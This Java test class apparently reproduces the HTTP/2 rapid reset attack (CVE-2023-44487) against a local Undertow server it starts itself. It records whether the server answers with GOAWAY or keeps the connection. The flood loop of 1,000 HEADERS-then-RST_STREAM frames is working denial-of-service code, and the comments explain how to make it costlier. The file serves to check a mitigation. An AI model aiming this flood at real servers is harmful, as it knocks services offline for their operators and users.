package io.github.http2wildfly.servers;

import io.github.http2wildfly.measure.attack.RawHttp2;
import io.netty.handler.codec.http2.Http2Error;
import io.undertow.Undertow;
import io.undertow.UndertowOptions;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * The rapid reset (CVE-2023-44487) against an Undertow HTTPS listener with HTTP/2, in its two shapes, each on a
 * connection of its own: requests opened and reset at once, {@link #REQUESTS} of them, five times Undertow's
 * MAX_RST_FRAMES_PER_WINDOW (200 in 30 s), each for an answer larger than the stream's flow-control window, so that the
 * answer is still being sent when its reset comes (an attacker asks for what costs most; an answer sent whole before
 * its reset is read leaves nothing to exempt). What the server did: GOAWAY with its error, or nothing. Written with Undertow's public API and raw frames (Netty's codec), as a test case
 * sent upstream would be; {@link PatchedLibrary} loads it beside Undertow's own classes or the patched ones.
 */
public final class RapidReset {

    static final int REQUESTS = 1_000;
    static final String CANONICAL = "HEADERS with END_STREAM, then RST_STREAM";
    static final String WHILE_SENDING = "HEADERS without END_STREAM, then RST_STREAM";

    /** More than the 64 KiB a stream may receive before the client credits it, which this client never does. */
    private static final byte[] ANSWER = new byte[1 << 20];

    private RapidReset() {
    }

    /** Each shape's outcome: "GOAWAY ENHANCE_YOUR_CALM", or "connection kept" 5 s after the last reset was sent. */
    public static Map<String, String> outcomes(String keystore, String password) throws Exception {
        Undertow server = Undertow.builder()
                .setServerOption(UndertowOptions.ENABLE_HTTP2, true)
                .addHttpsListener(0, "127.0.0.1", ProxyToDyingBackend.serverTls(Path.of(keystore), password.toCharArray()))
                .setHandler(exchange -> exchange.getResponseSender().send(ByteBuffer.wrap(ANSWER)))
                .build();
        server.start();
        try {
            URI door = URI.create("https://127.0.0.1:" + ((InetSocketAddress) server.getListenerInfo().get(0).getAddress()).getPort() + "/");
            Map<String, String> outcomes = new LinkedHashMap<>();
            outcomes.put(CANONICAL, flood(door, true));
            outcomes.put(WHILE_SENDING, flood(door, false));
            return outcomes;
        } finally {
            server.stop();
        }
    }

    private static String flood(URI door, boolean endStream) throws Exception {
        try (RawHttp2 connection = RawHttp2.open(ProxyToDyingBackend.trustingAll(), door)) {
            int stream = 1;
            for (int request = 0; request < REQUESTS; request++, stream += 2) {
                connection.headers(stream, endStream ? connection.get("/") : connection.post("/"), endStream);
                connection.reset(stream);
            }
            connection.flush();
            if (connection.awaitGoAwayOrClose(Duration.ofSeconds(5))) {
                return connection.goAwayError() >= 0 ? "GOAWAY " + Http2Error.valueOf(connection.goAwayError()) : "closed without GOAWAY";
            }
            return "connection kept";
        }
    }
}
